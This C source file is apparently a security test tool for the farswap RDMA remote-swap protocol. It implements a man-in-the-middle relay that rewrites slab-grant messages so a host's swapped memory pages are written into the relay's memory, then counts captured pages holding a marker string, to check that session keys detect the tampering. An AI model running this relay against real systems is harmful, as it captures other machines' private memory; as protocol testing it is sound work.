// SPDX-License-Identifier: GPL-2.0
/*
 * fsrelay: a relay on the path between a farswap host and its donor, the
 * attack the session keys are there to stop.
 *
 *   fsrelay --listen ADDR[:PORT] --upstream ADDR[:PORT] [--marker TEXT]
 *
 * A host that is told the relay's address is the donor's connects here.
 * Every connection it makes (the control QP and each I/O QP) is made
 * again to the donor with the same private data, and accepted with the
 * donor's answer, so the handshake passes through byte for byte: the
 * relay learns no key.  Control messages are forwarded both ways, but a
 * SLAB_ALLOC_REP granting a slab is changed on the way: its addr and rkey
 * become the relay's own memory, so the host's RDMA WRITEs (its pages)
 * land here.  Without session keys nothing tells the host; with them
 * the message's tag no longer matches and the host drops the session.
 *
 * SIGUSR1 prints a report, SIGTERM prints it and exits 0:
 *   fsrelay: report sessions=N swapped=N marker_pages=N data_pages=N
 * marker_pages counts the pages of the relay's memory holding TEXT.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netdb.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <infiniband/verbs.h>
#include <rdma/rdma_cma.h>

#include "farswap_proto.h"

#define PAIRS		64
#define TRAP_BYTES	(64u << 20)	/* the memory the host is given */
#define SENDS		(2 * FARSWAP_CTRL_DEPTH)

enum side { DOWN, UP };		/* DOWN: the host's side, UP: the donor's */

/* One connection of the host, and the relay's own to the donor. */
struct pair {
	bool used;
	bool ctrl;
	bool dead;
	struct rdma_cm_id *id[2];
	struct farswap_conn_req req;
	/* The receive and send buffers, registered for each side's device. */
	struct ibv_mr *mr[2];
	union farswap_msg recv[2][FARSWAP_CTRL_DEPTH];
	union farswap_msg send[2][SENDS];
	unsigned int next_send[2];
};

static struct {
	const char *listen;
	const char *upstream;
	const char *marker;
} opt;

/*
 * An RDMA device: the relay sits between two links, so the host's side
 * and the donor's are usually two devices, each with its own PD and CQ.
 */
struct dev {
	struct ibv_context *verbs;
	struct ibv_pd *pd;
	struct ibv_comp_channel *cc;
	struct ibv_cq *cq;
	struct ibv_mr *trap_mr;	/* the relay's memory, for the host to write */
};

static struct {
	struct rdma_event_channel *ch;
	struct dev dev[2];
	uint8_t *trap;
	uint64_t trap_next;	/* where the next swapped slab starts */
	struct sockaddr_storage up_addr;
	struct pair pair[PAIRS];
	unsigned long sessions, swapped, forwarded;
} r;

static volatile sig_atomic_t want_report, want_exit;

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	printf("fsrelay: ");
	vprintf(fmt, ap);
	printf("\n");
	fflush(stdout);
	va_end(ap);
}

static void __attribute__((noreturn)) fail(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	printf("fsrelay: FAIL: ");
	vprintf(fmt, ap);
	printf("\n");
	fflush(stdout);
	va_end(ap);
	exit(1);
}

static void parse_addr(const char *s, struct sockaddr_storage *out)
{
	struct addrinfo hints = { .ai_family = AF_INET }, *res;
	char host[128], *colon;
	const char *port = "7471";

	snprintf(host, sizeof(host), "%s", s);
	colon = strrchr(host, ':');
	if (colon) {
		*colon = '\0';
		port = colon + 1;
	}
	if (getaddrinfo(host, port, &hints, &res))
		fail("cannot resolve %s", s);
	memcpy(out, res->ai_addr, res->ai_addrlen);
	freeaddrinfo(res);
}

/* The verbs objects of @verbs's device, made at its first use. */
static struct dev *dev_of(struct ibv_context *verbs)
{
	struct dev *d = NULL;
	unsigned int i;

	for (i = 0; i < 2 && !d; i++)
		if (r.dev[i].verbs == verbs || !r.dev[i].verbs)
			d = &r.dev[i];
	if (!d)
		fail("a third RDMA device");
	if (d->verbs)
		return d;
	d->verbs = verbs;
	d->pd = ibv_alloc_pd(verbs);
	d->cc = d->pd ? ibv_create_comp_channel(verbs) : NULL;
	d->cq = d->cc ? ibv_create_cq(verbs, 1024, NULL, d->cc, 0) : NULL;
	if (!d->cq || ibv_req_notify_cq(d->cq, 0))
		fail("cannot create PD/CQ: %s", strerror(errno));
	d->trap_mr = ibv_reg_mr(d->pd, r.trap, TRAP_BYTES,
				IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE |
				IBV_ACCESS_REMOTE_READ);
	if (!d->trap_mr)
		fail("cannot register the relay's memory: %s", strerror(errno));
	return d;
}

/* wr_id: the pair, the side, receive or send, the buffer. */
#define WR_ID(p, side, send, i) \
	(((uint64_t)(p) << 16) | ((uint64_t)(side) << 15) | \
	 ((uint64_t)(send) << 14) | (i))

static int post_recv(struct pair *p, enum side s, unsigned int i)
{
	struct ibv_sge sge = { (uintptr_t)&p->recv[s][i],
			       sizeof(p->recv[s][i]), p->mr[s]->lkey };
	struct ibv_recv_wr wr = { .wr_id = WR_ID(p - r.pair, s, 0, i),
				  .sg_list = &sge, .num_sge = 1 }, *bad;

	return ibv_post_recv(p->id[s]->qp, &wr, &bad);
}

static int create_qp(struct pair *p, enum side s)
{
	struct dev *d = dev_of(p->id[s]->verbs);
	struct ibv_qp_init_attr qa = { 0 };
	unsigned int i;

	p->mr[s] = ibv_reg_mr(d->pd, p->recv, sizeof(p->recv) + sizeof(p->send),
			      IBV_ACCESS_LOCAL_WRITE);
	if (!p->mr[s])
		return -1;
	qa.send_cq = qa.recv_cq = d->cq;
	qa.qp_type = IBV_QPT_RC;
	qa.cap.max_send_wr = SENDS;
	qa.cap.max_recv_wr = FARSWAP_CTRL_DEPTH;
	qa.cap.max_send_sge = qa.cap.max_recv_sge = 1;
	if (rdma_create_qp(p->id[s], d->pd, &qa))
		return -1;
	for (i = 0; p->ctrl && i < FARSWAP_CTRL_DEPTH; i++)
		if (post_recv(p, s, i))
			return -1;
	return 0;
}

static void pair_end(struct pair *p, const char *why)
{
	enum side s;

	if (!p->used)
		return;
	say("pair %ld (%s qid %u) ends: %s", (long)(p - r.pair),
	    p->ctrl ? "control" : "I/O", le16_to_cpu(p->req.qid), why);
	for (s = DOWN; s <= UP; s++) {
		if (!p->id[s])
			continue;
		rdma_disconnect(p->id[s]);
		if (p->id[s]->qp)
			rdma_destroy_qp(p->id[s]);
		rdma_destroy_id(p->id[s]);
	}
	for (s = DOWN; s <= UP; s++)
		if (p->mr[s])
			ibv_dereg_mr(p->mr[s]);
	memset(p, 0, sizeof(*p));
}

static struct pair *pair_of(struct rdma_cm_id *id, enum side *s)
{
	unsigned int i;

	for (i = 0; i < PAIRS; i++) {
		struct pair *p = &r.pair[i];

		if (!p->used)
			continue;
		if (p->id[DOWN] == id || p->id[UP] == id) {
			*s = p->id[DOWN] == id ? DOWN : UP;
			return p;
		}
	}
	return NULL;
}

/* The host connects: connect to the donor with the same private data. */
static void on_connect_request(struct rdma_cm_event *e)
{
	const struct farswap_conn_req *req = e->param.conn.private_data;
	struct pair *p = NULL;
	unsigned int i;

	for (i = 0; i < PAIRS && !p; i++)
		if (!r.pair[i].used)
			p = &r.pair[i];
	if (!p || !req || e->param.conn.private_data_len < sizeof(*req)) {
		rdma_reject(e->id, NULL, 0);
		return;
	}
	p->used = true;
	p->id[DOWN] = e->id;
	memcpy(&p->req, req, sizeof(*req));
	p->ctrl = req->qtype == FARSWAP_QT_CTRL;
	if (create_qp(p, DOWN) ||
	    rdma_create_id(r.ch, &p->id[UP], NULL, RDMA_PS_TCP) ||
	    rdma_resolve_addr(p->id[UP], NULL, (struct sockaddr *)&r.up_addr,
			      2000)) {
		/* Destroyed by pair_end() once this event is acked. */
		rdma_reject(e->id, NULL, 0);
		p->dead = true;
		return;
	}
	if (p->ctrl)
		r.sessions++;
}

/* READ depth: as deep as @id's device allows, at most @cap. */
static uint8_t read_depth(struct rdma_cm_id *id, bool initiator, int cap)
{
	struct ibv_device_attr da;
	int n;

	if (ibv_query_device(id->verbs, &da))
		return 1;
	n = initiator ? da.max_qp_init_rd_atom : da.max_qp_rd_atom;
	return (uint8_t)(n < cap ? n : cap);
}

static void on_up_event(struct pair *p, struct rdma_cm_event *e)
{
	struct rdma_conn_param cp = { 0 };

	switch (e->event) {
	case RDMA_CM_EVENT_ADDR_RESOLVED:
		if (rdma_resolve_route(p->id[UP], 2000))
			p->dead = true;
		break;
	case RDMA_CM_EVENT_ROUTE_RESOLVED:
		if (create_qp(p, UP)) {
			p->dead = true;
			break;
		}
		cp.private_data = &p->req;
		cp.private_data_len = sizeof(p->req);
		cp.initiator_depth = read_depth(p->id[UP], true, 16);
		cp.responder_resources = read_depth(p->id[UP], false, 16);
		cp.retry_count = 7;
		cp.rnr_retry_count = 7;
		if (rdma_connect(p->id[UP], &cp))
			p->dead = true;
		break;
	case RDMA_CM_EVENT_ESTABLISHED:
		/* The donor's answer, as it is, to the host. */
		cp.private_data = e->param.conn.private_data;
		cp.private_data_len = e->param.conn.private_data_len;
		/* The host's READs are served from these. */
		cp.responder_resources = read_depth(p->id[DOWN], false, 255);
		cp.initiator_depth = read_depth(p->id[DOWN], true, 16);
		cp.rnr_retry_count = 7;
		if (rdma_accept(p->id[DOWN], &cp))
			p->dead = true;
		break;
	case RDMA_CM_EVENT_REJECTED:
		rdma_reject(p->id[DOWN], e->param.conn.private_data,
			    e->param.conn.private_data_len);
		p->dead = true;
		break;
	default:
		p->dead = true;
		break;
	}
}

/* A message from one side, on its way to the other. */
static void forward(struct pair *p, enum side from, unsigned int i,
		    uint32_t len)
{
	enum side to = from == DOWN ? UP : DOWN;
	unsigned int k = p->next_send[to]++ % SENDS;
	union farswap_msg *m = &p->send[to][k];
	struct ibv_sge sge = { (uintptr_t)m, len, p->mr[to]->lkey };
	struct ibv_send_wr wr = { .wr_id = WR_ID(p - r.pair, to, 1, k),
				  .sg_list = &sge, .num_sge = 1,
				  .opcode = IBV_WR_SEND,
				  .send_flags = IBV_SEND_SIGNALED }, *bad;

	memcpy(m, &p->recv[from][i], len);
	if (from == UP && len >= sizeof(m->alloc_rep) &&
	    m->hdr.type == FARSWAP_MSG_SLAB_ALLOC_REP &&
	    le16_to_cpu(m->alloc_rep.status) == FARSWAP_ST_OK) {
		uint64_t length = le64_to_cpu(m->alloc_rep.length);

		/* The slab is the relay's memory now, as far as it can be. */
		if (r.trap_next + length > TRAP_BYTES)
			r.trap_next = 0;
		m->alloc_rep.addr = cpu_to_le64((uintptr_t)r.trap + r.trap_next);
		m->alloc_rep.rkey =
			cpu_to_le32(dev_of(p->id[DOWN]->verbs)->trap_mr->rkey);
		if (length < TRAP_BYTES)
			r.trap_next += length;
		r.swapped++;
		say("slab %u granted by the donor: the host is told it is at the relay's memory",
		    le32_to_cpu(m->alloc_rep.slab_id));
	}
	r.forwarded++;
	if (ibv_post_send(p->id[to]->qp, &wr, &bad) || post_recv(p, from, i))
		p->dead = true;
}

static void poll_cq(struct dev *d)
{
	struct ibv_cq *cq;
	struct ibv_wc wc[16];
	void *ctx;
	int n, i;

	if (ibv_get_cq_event(d->cc, &cq, &ctx))
		return;
	ibv_ack_cq_events(cq, 1);
	ibv_req_notify_cq(cq, 0);
	while ((n = ibv_poll_cq(cq, 16, wc)) > 0) {
		for (i = 0; i < n; i++) {
			struct pair *p = &r.pair[(wc[i].wr_id >> 16) % PAIRS];
			enum side s = (wc[i].wr_id >> 15) & 1;
			bool send = (wc[i].wr_id >> 14) & 1;

			if (!p->used)
				continue;
			if (wc[i].status != IBV_WC_SUCCESS) {
				p->dead = true;
				continue;
			}
			if (!send)
				forward(p, s, wc[i].wr_id & 0x3fff,
					wc[i].byte_len);
		}
	}
}

static void report(void)
{
	unsigned long marker = 0, data = 0, pg;
	size_t mlen = opt.marker ? strlen(opt.marker) : 0;

	for (pg = 0; pg < TRAP_BYTES / FARSWAP_PAGE_SIZE; pg++) {
		const uint8_t *b = r.trap + pg * FARSWAP_PAGE_SIZE;
		unsigned int j;

		for (j = 0; j < FARSWAP_PAGE_SIZE && !b[j]; j++)
			;
		if (j == FARSWAP_PAGE_SIZE)
			continue;
		data++;
		if (mlen && memmem(b, FARSWAP_PAGE_SIZE, opt.marker, mlen))
			marker++;
	}
	say("report sessions=%lu swapped=%lu forwarded=%lu marker_pages=%lu data_pages=%lu",
	    r.sessions, r.swapped, r.forwarded, marker, data);
}

static void on_signal(int sig)
{
	if (sig == SIGUSR1)
		want_report = 1;
	else
		want_exit = 1;
}

static void usage(void)
{
	fprintf(stderr, "usage: fsrelay --listen ADDR[:PORT] --upstream ADDR[:PORT] [--marker TEXT]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "listen", required_argument, NULL, 'l' },
		{ "upstream", required_argument, NULL, 'u' },
		{ "marker", required_argument, NULL, 'm' },
		{ NULL, 0, NULL, 0 }
	};
	struct sockaddr_storage la;
	struct rdma_cm_id *listen_id;
	int ch;

	while ((ch = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (ch) {
		case 'l': opt.listen = optarg; break;
		case 'u': opt.upstream = optarg; break;
		case 'm': opt.marker = optarg; break;
		default: usage();
		}
	}
	if (!opt.listen || !opt.upstream)
		usage();
	parse_addr(opt.listen, &la);
	parse_addr(opt.upstream, &r.up_addr);
	signal(SIGUSR1, on_signal);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);

	r.trap = aligned_alloc(FARSWAP_PAGE_SIZE, TRAP_BYTES);
	if (!r.trap)
		fail("out of memory");
	memset(r.trap, 0, TRAP_BYTES);
	r.ch = rdma_create_event_channel();
	if (!r.ch || rdma_create_id(r.ch, &listen_id, NULL, RDMA_PS_TCP) ||
	    rdma_bind_addr(listen_id, (struct sockaddr *)&la) ||
	    rdma_listen(listen_id, 16))
		fail("cannot listen on %s: %s", opt.listen, strerror(errno));
	say("listening on %s, relaying to %s", opt.listen, opt.upstream);

	while (!want_exit) {
		struct pollfd pfd[3] = {
			{ .fd = r.ch->fd, .events = POLLIN },
			{ .fd = r.dev[0].cc ? r.dev[0].cc->fd : -1, .events = POLLIN },
			{ .fd = r.dev[1].cc ? r.dev[1].cc->fd : -1, .events = POLLIN },
		};
		struct rdma_cm_event *e;
		unsigned int i;

		if (want_report) {
			want_report = 0;
			report();
		}
		if (poll(pfd, 3, 200) <= 0)
			continue;
		for (i = 0; i < 2; i++)
			if (pfd[i + 1].revents & POLLIN)
				poll_cq(&r.dev[i]);
		if ((pfd[0].revents & POLLIN) && !rdma_get_cm_event(r.ch, &e)) {
			enum side s;
			struct pair *p;

			if (e->event == RDMA_CM_EVENT_CONNECT_REQUEST) {
				on_connect_request(e);
			} else if ((p = pair_of(e->id, &s))) {
				if (s == UP)
					on_up_event(p, e);
				else if (e->event != RDMA_CM_EVENT_ESTABLISHED)
					p->dead = true;
			}
			rdma_ack_cm_event(e);
		}
		for (i = 0; i < PAIRS; i++)
			if (r.pair[i].dead)
				pair_end(&r.pair[i], "a side went away or failed");
	}
	report();
	return 0;
}
